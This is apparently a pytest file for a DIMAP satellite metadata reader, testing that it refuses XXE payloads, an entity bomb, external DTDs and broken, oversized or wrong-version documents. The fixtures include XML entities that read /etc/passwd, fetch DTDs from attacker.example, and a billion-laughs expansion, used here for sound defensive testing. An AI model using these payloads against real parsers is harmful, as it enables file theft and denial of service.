"""Hostile, broken and foreign documents: refused with a message that says why."""

from belspo.pleiades.dimap import DimapError
from belspo.pleiades.dimap import MAX_DOCUMENT_SIZE
from belspo.pleiades.dimap import read_dimap
from belspo.pleiades.dimap import read_volume

import pytest


HEADER = """<Metadata_Identification>
    <METADATA_FORMAT version="2.0">DIMAP</METADATA_FORMAT>
    <METADATA_PROFILE>PHR_SENSOR</METADATA_PROFILE>
    <METADATA_SUBPROFILE>PRODUCT</METADATA_SUBPROFILE>
  </Metadata_Identification>"""

XXE = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Dimap_Document [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<Dimap_Document>
  {HEADER}
  <Dataset_Identification><DATASET_NAME>&xxe;</DATASET_NAME></Dataset_Identification>
</Dimap_Document>"""

PARAMETER_ENTITY_XXE = f"""<?xml version="1.0"?>
<!DOCTYPE Dimap_Document [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<Dimap_Document>{HEADER}</Dimap_Document>"""

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE Dimap_Document [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Dimap_Document>
  {HEADER}
  <Dataset_Identification><DATASET_NAME>&lol9;</DATASET_NAME></Dataset_Identification>
</Dimap_Document>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE Dimap_Document SYSTEM "http://attacker.example/dimap.dtd">
<Dimap_Document>{HEADER}</Dimap_Document>"""

# The SPOT 1-5 era format: Metadata_Id instead of Metadata_Identification.
DIMAP_1 = """<?xml version="1.0" encoding="ISO-8859-1"?>
<Dimap_Document name="METADATA.DIM">
  <Metadata_Id>
    <METADATA_FORMAT version="1.1">DIMAP</METADATA_FORMAT>
    <METADATA_PROFILE>SPOTSCENE_1A</METADATA_PROFILE>
  </Metadata_Id>
  <Dataset_Id><DATASET_NAME>SCENE 5 052-254 04/07/11 1 T</DATASET_NAME></Dataset_Id>
</Dimap_Document>"""

RPC = """<?xml version="1.0" encoding="UTF-8"?>
<Dimap_Document>
  <Metadata_Identification>
    <METADATA_FORMAT version="2.0">DIMAP</METADATA_FORMAT>
    <METADATA_PROFILE>PHR_SENSOR</METADATA_PROFILE>
    <METADATA_SUBPROFILE>RPC</METADATA_SUBPROFILE>
  </Metadata_Identification>
  <Rational_Function_Model><Global_RFM/></Rational_Function_Model>
</Dimap_Document>"""

VOLUME = f"""<Dimap_Document>
  {HEADER.replace("PHR_SENSOR", "VOLUME").replace(">PRODUCT<", ">SINGLE_VOLUME<")}
</Dimap_Document>"""

PRODUCT = f"""<Dimap_Document>{HEADER}</Dimap_Document>"""

CNES = """<?xml version="1.0"?>
<PHR_Dimap_Document><Metadata_Identification/></PHR_Dimap_Document>"""

NEXT_VERSION = PRODUCT.replace('version="2.0"', 'version="3.0"')

NOT_DIMAP = """<?xml version="1.0"?><gpx version="1.1"><trk/></gpx>"""


@pytest.fixture(params=[read_dimap, read_volume], ids=["product", "volume"])
def read(request):
    """Both readers share the same hardening."""
    return request.param


@pytest.mark.parametrize(
    "document,message",
    [
        (XXE, "document type declaration"),
        (PARAMETER_ENTITY_XXE, "XXE"),
        (BILLION_LAUGHS, "entity bombs"),
        (EXTERNAL_DTD, "external DTD 'http://attacker.example/dimap.dtd'"),
    ],
    ids=["xxe", "parameter-entity-xxe", "billion-laughs", "external-dtd"],
)
def test_hostile_xml_is_refused(read, document, message):
    with pytest.raises(DimapError, match="refused") as raised:
        read(document.encode())
    assert message in str(raised.value)
    assert "root:x:" not in str(raised.value)  # nothing of /etc/passwd


@pytest.mark.parametrize(
    "document,message",
    [
        (b"", "the document is empty"),
        (b" \n\t", "the document is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not an XML document"),
        (b"DATASET_NAME=foo", "not an XML document"),
        (b"<Dimap_Document><Metadata_Identification>", "truncated"),
        (b"<Dimap_Document><Metadata_Identification", "truncated"),
        (b"<Dimap_Document></Metadata_Identification>", "malformed XML"),
        (b"<Dimap_Document/><Dimap_Document/>", "malformed XML"),
        (b"<dim:Dimap_Document/>", "malformed XML"),
        (NOT_DIMAP.encode(), "not a DIMAP document: the root element is <gpx>"),
        (CNES.encode(), "PHR_Dimap_Document"),
        (DIMAP_1.encode("iso-8859-1"), "a DIMAP 1.1 document"),
        (NEXT_VERSION.encode(), "a DIMAP 3.0 document"),
    ],
)
def test_broken_or_foreign_documents_are_refused(read, document, message):
    with pytest.raises(DimapError) as raised:
        read(document)
    assert message in str(raised.value)


def test_truncated_real_document_is_refused(read, dimap_data):
    data = (dimap_data / "gdal-dimap2-vhr2020-ms-fs/DIM_MS-FS.XML").read_bytes()
    with pytest.raises(DimapError, match="truncated"):
        read(data[: len(data) // 2])


def test_rpc_document_is_not_a_product():
    with pytest.raises(DimapError, match="a DIMAP RPC document, not a product"):
        read_dimap(RPC.encode())


def test_volume_is_not_a_product():
    with pytest.raises(DimapError, match="not a product document"):
        read_dimap(VOLUME.encode())


def test_product_is_not_a_volume():
    with pytest.raises(DimapError, match="not a DIMAP volume document"):
        read_volume(PRODUCT.encode())


def test_oversized_bytes_are_refused(read):
    document = PRODUCT.encode() + b" " * MAX_DOCUMENT_SIZE
    with pytest.raises(DimapError, match=f"larger than the {MAX_DOCUMENT_SIZE} bytes"):
        read(document)


def test_oversized_file_is_refused_without_reading_it(read, tmp_path):
    path = tmp_path / "DIM_HUGE.XML"
    with path.open("wb") as handle:
        # A sparse file: large on paper, nothing written.
        handle.truncate(MAX_DOCUMENT_SIZE + 1)
    with pytest.raises(DimapError, match="larger than"):
        read(path)


def test_missing_file_is_refused(read, tmp_path):
    with pytest.raises(DimapError, match="cannot read DIM_GONE.XML"):
        read(tmp_path / "DIM_GONE.XML")


def test_nameless_bytes_are_refused():
    with pytest.raises(DimapError, match="no DATASET_NAME and no file name"):
        read_dimap(PRODUCT.encode())


def test_dimap_error_is_a_value_error():
    assert issubclass(DimapError, ValueError)
